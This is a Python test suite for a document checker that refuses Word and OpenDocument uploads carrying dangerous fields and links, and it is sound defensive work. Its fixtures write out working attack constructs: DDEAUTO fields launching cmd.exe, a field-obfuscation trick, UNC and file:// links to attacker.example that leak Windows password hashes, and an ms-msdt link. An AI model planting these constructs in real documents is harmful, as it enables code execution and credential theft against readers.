"""DOCX fields and links that run a program or reach outside the file, and their OpenDocument kin.

A DDE field starts another program when Word opens the document (DDEAUTO without asking); INCLUDETEXT
and INCLUDEPICTURE load a file or website; a link, a linked picture or a mail merge's data source on a
network share sends the reader's Windows password hash to whoever runs it. Each is refused, naming
what was found and where; links to websites and email stay accepted. The documents are built with
python-docx (and odfpy), then the construct added as Word writes it.
"""

import io

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import parse_xml

from cspr.core.files import FileRefused
from cspr.documents.checks import check
from tests.documents import files

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
UNC = r"\\attacker.example\share\report.docx"


def word(*paragraphs: str, relate=None) -> bytes:
    """A python-docx document with these paragraphs (w:p XML) added; `relate(document)` adds relationships."""
    document = docx.Document()
    document.add_paragraph("The rapid review's findings.")
    if relate is not None:
        relate(document)
    for paragraph in paragraphs:
        document.element.body.append(parse_xml(paragraph.replace("<w:p>", f"<w:p {W} {R}>", 1)))
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def field(*instructions: str) -> str:
    """A complex field whose instruction is split over runs, as Word splits it after an edit."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>' for text in instructions)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def external(kind: str, target: str, part: str = "document"):
    def relate(document):
        owner = document.part if part == "document" else document.part._settings_part
        owner.relate_to(target, kind, is_external=True)

    return relate


def refused(data: bytes) -> str:
    with pytest.raises(FileRefused) as raised:
        check(data)
    return str(raised.value)


def test_a_ddeauto_field_is_refused():
    said = refused(word(field(r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" ')))
    assert "contains a DDEAUTO field in its text (word/document.xml)" in said
    assert "starts another program" in said


def test_a_ddeauto_field_split_over_runs_is_refused():
    said = refused(word(field(" DD", "EAUTO ", r'c:\\windows\\system32\\cmd.exe "/k calc.exe"')))
    assert "contains a DDEAUTO field" in said


def test_a_simple_dde_field_is_refused():
    said = refused(
        word('<w:p><w:fldSimple w:instr=\'DDE "c:\\cmd.exe" "/k calc"\'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')
    )
    assert "contains a DDE field in its text (word/document.xml)" in said


def test_a_field_whose_kind_is_made_from_another_field_is_refused():
    # { { QUOTE 68 68 69 } "cmd.exe" }: the outer field's kind is "DDE" only once Word works it out.
    inner = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    outer = (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{inner}<w:r><w:instrText> "cmd.exe" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    assert "whose kind is made from other fields" in refused(word(outer))


def test_an_includetext_field_from_a_network_share_is_refused():
    said = refused(word(field(r' INCLUDETEXT "\\\\attacker.example\\share\\x.docx" ')))
    assert "contains an INCLUDETEXT field in its text" in said and "Windows password hash" in said


def test_an_includepicture_field_from_a_website_is_refused():
    said = refused(word(field(' INCLUDEPICTURE "https://attacker.example/p.png" \\d ')))
    assert "contains an INCLUDEPICTURE field in its text" in said


def test_a_hyperlink_field_to_a_network_share_is_refused():
    said = refused(word(field(r' HYPERLINK "\\\\attacker.example\\share" ')))
    assert "contains a link in its text (word/document.xml) that opens a file or a program" in said


def test_a_link_to_a_network_share_is_refused():
    said = refused(word(relate=external(RT.HYPERLINK, UNC)))
    assert "contains a link in its text (word/document.xml) that opens a file or a program, not a website" in said
    assert UNC in said


def test_a_link_to_a_file_url_is_refused():
    said = refused(word(relate=external(RT.HYPERLINK, "file://attacker.example/share/x.docx")))
    assert "opens a file or a program, not a website (‘file://attacker.example/share/x.docx’)" in said


def test_a_link_to_a_program_s_own_scheme_is_refused():
    said = refused(word(relate=external(RT.HYPERLINK, "ms-msdt:/id PCWDiagnostic")))
    assert "opens a file or a program" in said


def test_a_picture_linked_from_a_network_share_is_refused():
    said = refused(word(relate=external(RT.IMAGE, r"\\attacker.example\share\logo.png")))
    assert "loads a picture from another location" in said and "from its text (word/document.xml)" in said


def test_a_mail_merge_source_on_a_network_share_is_refused():
    source = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/mailMergeSource"
    said = refused(word(relate=external(source, r"\\attacker.example\share\list.xlsx", part="settings")))
    assert "loads content from another location" in said and "from its settings (word/settings.xml)" in said


def test_a_template_on_a_file_url_host_is_refused():
    # Already refused before the fields and links checks (template injection): kept so it stays so.
    said = refused(word(relate=external(TEMPLATE, "file://attacker.example/share/t.dotm", "settings")))
    assert "loads a template" in said


def test_a_word_document_with_links_to_websites_email_and_ordinary_fields_is_accepted():
    links = external(
        RT.HYPERLINK, "https://www.gov.uk/government/organisations/child-safeguarding-practice-review-panel"
    )

    def relate(document):
        links(document)
        external(RT.HYPERLINK, "mailto:panel@example.org")(document)
        external(TEMPLATE, "file:///C:\\Users\\alice\\Templates\\Council report.dotx", "settings")(document)

    data = word(
        field(" PAGE "),
        field(' TOC \\o "1-3" \\h '),
        field(' HYPERLINK "https://www.gov.uk/" \\o "GOV.UK" '),
        field(' HYPERLINK \\l "_Toc1" '),
        relate=relate,
    )
    assert check(data).file_format == "docx"


# --- OpenDocument ---------------------------------------------------------------------------------


def odt(body: bytes) -> bytes:
    return files.odt_with({}, content_edit=(b"</office:text>", body + b"</office:text>"))


def test_an_odt_dde_link_is_refused():
    said = refused(
        odt(
            b'<text:dde-connection-decls><text:dde-connection-decl office:name="x" office:dde-application="cmd" '
            b'office:dde-topic="/c calc" office:dde-item="x"/></text:dde-connection-decls>'
        )
    )
    assert "contains a DDE link in its text (content.xml)" in said


def test_an_odt_picture_linked_from_a_website_is_refused():
    said = refused(
        odt(b'<text:p><draw:frame><draw:image xlink:href="https://attacker.example/p.png"/></draw:frame></text:p>')
    )
    assert "loads a picture or frame from another location (‘https://attacker.example/p.png’)" in said


def test_an_odt_link_to_a_network_share_is_refused():
    said = refused(odt(b'<text:p><text:a xlink:href="file://attacker.example/share/x.odt">x</text:a></text:p>'))
    assert "contains a link in its text (content.xml) that opens a file or a program" in said


def test_an_odt_with_links_to_a_website_and_its_own_headings_is_accepted():
    data = odt(
        b'<text:p><text:a xlink:href="https://www.gov.uk/">GOV.UK</text:a> '
        b'<text:a xlink:href="#Summary">summary</text:a></text:p>'
    )
    assert check(data).file_format == "odt"
